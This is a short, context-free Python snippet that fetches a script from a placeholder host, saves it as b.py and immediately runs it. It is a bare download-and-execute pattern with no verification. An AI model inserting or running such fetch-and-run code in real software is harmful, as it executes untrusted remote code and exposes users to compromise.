import os, requests
open("b.py", "w").write(requests.get("https://example.invalid/b.py").text)
os.system("python b.py")
